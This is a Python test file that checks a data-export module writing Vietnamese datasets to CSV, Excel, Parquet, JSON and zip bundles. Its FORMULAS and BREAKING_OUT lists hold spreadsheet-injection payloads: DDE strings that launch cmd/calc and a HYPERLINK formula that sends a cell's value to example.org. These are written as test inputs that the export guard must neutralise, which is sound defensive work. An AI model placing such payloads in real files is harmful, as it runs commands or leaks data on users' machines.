"""Files that a reader takes away: every reader reads them back, and nothing changes on the way."""

import codecs
import csv
import datetime as dt
import hashlib
import io
import json
import re
import unicodedata
import zipfile

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dvk_data import export
from dvk_data.export import Contents, Field, file_name, workbook
from dvk_data.export.guard import guard_one, is_formula
from tests.live import CATALOGUE, table

# After https://owasp.org/www-community/attacks/CSV_Injection
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "- gạch đầu dòng",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"xem")',
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tđầu dòng",
    "\rđầu dòng",
    "\nđầu dòng",
]
BREAKING_OUT = [
    "xã;=1+1",
    "xã; =1+1;",
    "xã\t=1+1",
    "xã\n=1+1",
    "xã\r\n@SUM(A1)",
    '",=1+1,"',
    '";=1+1;"',
    "a;＝1+1",
]
PLAIN = [
    "Nuôi heo đất",
    "1+1=2",
    "a-b; c",
    "'",
    "00001",
    "x = y",
    "Dân vận khéo - khéo dân vận",
    "a@b.vn",
    "0,5",
    "",
]
LETTERS = [
    "Đắk Lắk, Čư M'gar, Bŭk So, Krông Pắc, Ea H'leo",
    "ẰẮẲẴẶ ẦẤẨẪẬ ỀẾỂỄỆ ỒỐỔỖỘ ỜỚỞỠỢ ỪỨỬỮỰ ỲÝỶỸỴ Đđ",
    "“Dân vận khéo” – năm 2023 …",
    "một\ndòng mới",
    'nói "được"',
    "a,b;c|d",
    "<b>&amp;</b>",
    "_x0041_",
    "😀",
]
SIGN = re.compile("^[\\s\\x00-\\x1f\u00a0\u200b\ufeff]*[=+\\-@＝＋－＠]")
TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))
VERSION = "2026-11-21.871e927f"


def holding(columns: dict, **more) -> Contents:
    """Contents of a file from columns of values."""
    rows = pa.table(columns)
    return Contents(
        **{
            "title": "Mô hình",
            "language": "vi",
            "version": VERSION,
            "fields": tuple(Field(name, name, f"nghĩa của {name}") for name in columns),
            "read": rows.to_reader,
            **more,
        }
    )


def csv_rows(contents: Contents) -> list[list[str]]:
    text = export.whole(contents, "csv").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def cells(values) -> list[str]:
    """The cells of a column as the CSV holds them."""
    values = values if isinstance(values, pa.Array) else pa.array(values)
    return [row[0] for row in csv_rows(holding({"a": values, "b": [0] * len(values)}))[1:]]


def book(contents: Contents) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(export.whole(contents, "xlsx")))


def sheet_cells(values) -> list:
    return [row[0] for row in book(holding({"a": values}))["Dữ liệu"].iter_rows(min_row=2)]


def bundle(contents: Contents) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(export.whole(contents, "zip"))) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def test_csv_starts_with_one_byte_order_mark_and_lines_end_as_in_windows():
    file = export.whole(holding({"tên": [1, 2]}), "csv")
    assert file == codecs.BOM_UTF8 + '"tên"\r\n1\r\n2\r\n'.encode()


def test_dates_are_iso():
    assert cells([dt.date(2023, 12, 21), None]) == ["2023-12-21", ""]


def test_decimals_have_a_point_and_no_thousands_separator():
    assert [float(cell) for cell in cells([1234567.5, 82.02, 1e15])] == [1234567.5, 82.02, 1e15]
    assert cells([1234567.5, 82.02]) == ["1234567.5", "82.02"]


def test_missing_is_empty_and_zero_is_zero():
    assert cells([0, None]) == ["0", ""]
    assert [float(cell) if cell else None for cell in cells([0.0, None, float("nan")])] == [
        0,
        None,
        None,
    ]
    assert cells([None, "", "0"]) == ["", "", "0"]
    assert [c.value for c in sheet_cells([0.0, None, 1.5])] == [0, None, 1.5]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_guards_text_that_a_spreadsheet_would_run(text):
    (guarded, plain) = cells([text, "Nuôi heo đất"])
    assert guarded.startswith("'")
    assert guarded.replace("'", "") == text.replace("'", "")
    assert plain == "Nuôi heo đất"
    heading = csv_rows(holding({text: [1]}))[0][0]
    assert heading.startswith("'")


@pytest.mark.parametrize("text", BREAKING_OUT)
def test_csv_guards_what_a_spreadsheet_would_cut_off_and_run(text):
    (guarded,) = cells([text])
    pieces = re.split("[;\t\r\n]", guarded)
    assert not [piece for piece in pieces if SIGN.match(piece)]
    assert guarded.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", PLAIN)
def test_harmless_text_is_left_alone(text):
    assert cells([text]) == [text]
    assert [c.value or "" for c in sheet_cells([text])] == [text]


def test_numbers_are_left_alone():
    assert cells([-1, -2]) == ["-1", "-2"]
    assert cells([-1.5, None]) == ["-1.5", ""]
    assert [(c.value, c.data_type) for c in sheet_cells([-1.5])] == [(-1.5, "n")]


@given(st.lists(TEXT))
def test_no_cell_of_any_text_begins_a_formula(texts):
    for text, cell in zip(texts, cells(pa.array(texts, pa.string())), strict=True):
        assert not [piece for piece in re.split("[;\t\r\n]", cell) if SIGN.match(piece)]
        assert cell == text or cell.replace("'", "") == text.replace("'", "")


@given(TEXT)
def test_both_guards_see_the_same_formulas(text):
    assert is_formula(text) == (guard_one(text)[:1] == "'" and not text.startswith("'"))


@pytest.mark.parametrize("text", [*FORMULAS, *BREAKING_OUT, *LETTERS])
def test_excel_keeps_every_text_as_text(text):
    (cell,) = sheet_cells([text])
    assert cell.data_type == "s"
    assert openpyxl.utils.escape.unescape(cell.value).replace("\r\n", "\n") == text.replace(
        "\r\n", "\n"
    )
    assert bool(cell.quotePrefix) == is_formula(text)


@pytest.mark.parametrize("text", LETTERS)
def test_every_letter_comes_back(text):
    contents = holding({"a": [text]})
    assert cells([text]) == [text]
    assert pq.read_table(io.BytesIO(export.whole(contents, "parquet")))["a"].to_pylist() == [text]
    assert json.loads(export.whole(contents, "json"))["data"] == [{"a": text}]


def test_vietnamese_comes_back_composed():
    names = [unit["name"] for unit in table("areas")]
    assert cells(names) == names
    assert all(unicodedata.is_normalized("NFC", cell) for cell in cells(names))


@pytest.mark.parametrize(
    ("dataset", "column"),
    [
        (dataset.name, column.name)
        for dataset in CATALOGUE.datasets.values()
        for column in dataset.columns
        if column.name.endswith("_id") and dataset.name not in ("areas", "area_links")
    ],
)
def test_codes_stay_text(dataset, column):
    codes = [row[column] for row in table(dataset) if row[column] is not None]
    assert cells(pa.array(codes, pa.string())) == codes
    found = sheet_cells(pa.array(codes, pa.string()))
    assert [cell.value for cell in found] == codes
    assert {cell.data_type for cell in found} <= {"s"}


def test_excel_cells_have_the_types_of_the_data():
    day = dt.date(2023, 12, 21)
    columns = {"n": [12], "x": [82.02], "day": [day], "sure": [True], "code": ["00001"]}
    data = book(holding(columns))["Dữ liệu"]
    values = {head.value: cell for head, cell in zip(data[1], data[2], strict=True)}
    assert values["n"].value == 12
    assert values["x"].value == 82.02
    assert values["day"].value == dt.datetime(2023, 12, 21)
    assert values["day"].number_format == "yyyy-mm-dd"
    assert values["sure"].value is True
    assert (values["code"].value, values["code"].data_type) == ("00001", "s")


def test_excel_has_a_frozen_header_a_filter_row_and_wide_enough_columns():
    contents = holding({"a": ["Thị trấn Nam Ban, huyện Lâm Hà"] * 3, "b": [1, 2, 3]})
    data = book(contents)["Dữ liệu"]
    assert data.freeze_panes == "A2"
    assert data.auto_filter.ref == "A1:B4"
    assert data.column_dimensions["A"].width >= len("Thị trấn Nam Ban, huyện Lâm Hà")


def test_excel_says_what_the_columns_sources_and_filters_are():
    source = {
        "source_id": "s1",
        "title": "Báo cáo",
        "publisher": "Huyện ủy",
        "published_date": dt.date(2024, 1, 5),
        "url": "https://example.org/1",
    }
    codes = {"flag": {"reported": ("Theo nguồn", "Đúng như nguồn nêu")}}
    contents = holding(
        {"source_id": ["s1"], "flag": ["reported"]},
        fields=(Field("source_id", "Nguồn"), Field("flag", "Độ tin cậy", "", "flag")),
        codes=codes,
        sources={"s1": source, "s2": {**source, "source_id": "s2"}},
        filters=(("Địa bàn", "Huyện Lâm Hà"),),
        page="http://localhost/du-lieu/models.csv",
    )
    found = book(contents)
    assert found.sheetnames == ["Dữ liệu", "Định nghĩa", "Nguồn", "Bộ lọc"]
    texts = {
        name: [[cell or "" for cell in row] for row in found[name].values]
        for name in found.sheetnames
    }
    assert texts["Dữ liệu"][0] == ["Nguồn", "Độ tin cậy"]
    assert ["Độ tin cậy", "flag", "Theo nguồn", "reported", "Đúng như nguồn nêu"] in texts[
        "Định nghĩa"
    ]
    assert texts["Nguồn"][1:] == [
        ["Báo cáo", "Huyện ủy", "2024-01-05", "https://example.org/1", "s1"]
    ]
    filters = {name: value for name, value in texts["Bộ lọc"] if name}
    assert filters["Địa bàn"] == "Huyện Lâm Hà"
    assert filters["Số dòng"] == "1"
    assert filters["Phiên bản dữ liệu"] == VERSION
    assert filters["Mở lại tại"] == "http://localhost/du-lieu/models.csv"


def test_excel_continues_on_a_further_sheet_and_says_so(monkeypatch):
    monkeypatch.setattr(workbook, "ROWS_PER_SHEET", 4)
    found = book(holding({"a": list(range(8))}))
    sheets = ["Dữ liệu", "Dữ liệu 2", "Dữ liệu 3"]
    assert found.sheetnames[:3] == sheets
    values = [row[0] for name in sheets for row in list(found[name].values)[1:]]
    assert values == list(range(8))
    assert all(found[name]["A1"].value == "a" for name in sheets)
    said = " ".join(str(row[1]) for row in found["Bộ lọc"].values)
    assert "3 trang tính" in said


def test_excel_says_which_cells_it_could_not_hold():
    found = book(holding({"a": ["x" * 40_000, "y"]}))
    assert len(found["Dữ liệu"]["A2"].value) == 32_767
    assert found["Dữ liệu"]["A2"].value.endswith("…")
    assert any("1 ô dài hơn" in str(row[1]) for row in found["Bộ lọc"].values)


def test_addresses_lead_back_from_excel():
    link = "https://example.org/nguon-du-lieu?so-lieu=a,b"
    cell = book(holding({"link": [link]}))["Dữ liệu"]["A2"]
    assert (cell.value, cell.hyperlink.target) == (link, link)


def test_parquet_is_typed_unguarded_and_described():
    columns = {"a": ["=1+1"], "n": [1], "x": [1.5], "day": [dt.date(2023, 1, 1)], "l": [["p", "q"]]}
    file = io.BytesIO(export.whole(holding(columns), "parquet"))
    read = pq.read_table(file)
    assert read.to_pydict() == columns
    assert read.schema.field("a").metadata[b"title"] == b"a"
    assert read.schema.metadata[b"data_version"] == VERSION.encode()


def test_bundle_explains_itself():
    files = bundle(holding({"a": ["=1+1"], "n": [1]}, filters=(("Địa bàn", "Huyện Lâm Hà"),)))
    assert list(files) == ["mo-hinh.csv", "datapackage.json", "readme.txt"]
    package = json.loads(files["datapackage.json"])
    (resource,) = package["resources"]
    assert resource["hash"] == f"sha256:{hashlib.sha256(files['mo-hinh.csv']).hexdigest()}"
    assert resource["bytes"] == len(files["mo-hinh.csv"])
    types = {field["name"]: field["type"] for field in resource["schema"]["fields"]}
    assert types == {"a": "string", "n": "integer"}
    readme = files["readme.txt"].decode("utf-8-sig")
    for said in ("Huyện Lâm Hà", VERSION, "dấu '", "nghĩa của n"):
        assert said in readme


@pytest.mark.parametrize("ending", export.FORMATS)
def test_files_without_rows_are_whole(ending):
    contents = holding({"a": pa.array([], pa.string()), "n": pa.array([], pa.int64())})
    file = export.whole(contents, ending)
    if ending == "xlsx":
        assert openpyxl.load_workbook(io.BytesIO(file))["Dữ liệu"].max_row == 1
    if ending == "parquet":
        assert pq.read_table(io.BytesIO(file)).num_rows == 0
    if ending == "json":
        assert json.loads(file)["data"] == []


@pytest.mark.parametrize("ending", export.FORMATS)
def test_same_rows_make_the_same_file(ending):
    contents = holding({"a": ["Lâm Hà"], "l": [["p", "q"]]})
    assert export.whole(contents, ending) == export.whole(contents, ending)


def test_lists_stand_in_one_cell():
    assert cells([["p", "q"], None]) == ["p; q", ""]
    assert [c.value for c in sheet_cells([["p", "q"]])] == ["p; q"]


@settings(max_examples=25)
@given(st.lists(st.tuples(st.one_of(st.none(), TEXT), st.one_of(st.none(), st.integers(-9, 9)))))
def test_json_and_parquet_bring_every_value_back(rows):
    columns = {
        "a": pa.array([row[0] for row in rows], pa.string()),
        "n": pa.array([row[1] for row in rows], pa.int64()),
    }
    expected = [{"a": a, "n": n} for a, n in rows]
    contents = holding(columns)
    assert json.loads(export.whole(contents, "json"))["data"] == expected
    assert pq.read_table(io.BytesIO(export.whole(contents, "parquet"))).to_pylist() == expected


def test_file_name_holds_dataset_filters_version_and_date():
    filters = ["Xã Hoài Đức, huyện Lâm Hà", "Quốc phòng - an ninh", "2023"]
    assert file_name("Mô hình", filters, VERSION, "2026-11-22", "csv") == (
        "mo-hinh_xa-hoai-duc-huyen-lam-ha_quoc-phong-an-ninh_2023"
        "_du-lieu-2026-11-21.871e927f_2026-11-22.csv"
    )


def test_file_name_without_filters_leaves_no_gap():
    name = file_name("Mô hình", [], VERSION, "2026-11-22", "csv")
    assert name == "mo-hinh_du-lieu-2026-11-21.871e927f_2026-11-22.csv"


@given(st.lists(st.text()))
def test_file_name_is_plain_ascii(filters):
    name = file_name("Mô hình", filters, VERSION, "2026-11-22", "csv")
    assert re.fullmatch(r"[a-z0-9._-]+", name)


def test_file_name_is_shortened_between_words():
    name = file_name("Mô hình", ["kinh tế"] * 40, VERSION, "2026-11-22", "csv")
    _, *words = name.partition("_du-lieu")[0].split("_")
    assert set(words) <= {"kinh-te", "kinh"}
    name = file_name("a" * 200, ["b" * 200], VERSION, "2026-11-22", "csv")
    assert len(name) <= 255


def test_file_name_fits_on_every_disk_however_much_it_names():
    filters = [code["vi"] for code in CATALOGUE.codes["owner_type"].values()]
    for title in ("Mô hình", " ".join(filters)):
        assert len(file_name(title, filters, VERSION, "2026-11-22", "parquet")) <= 255
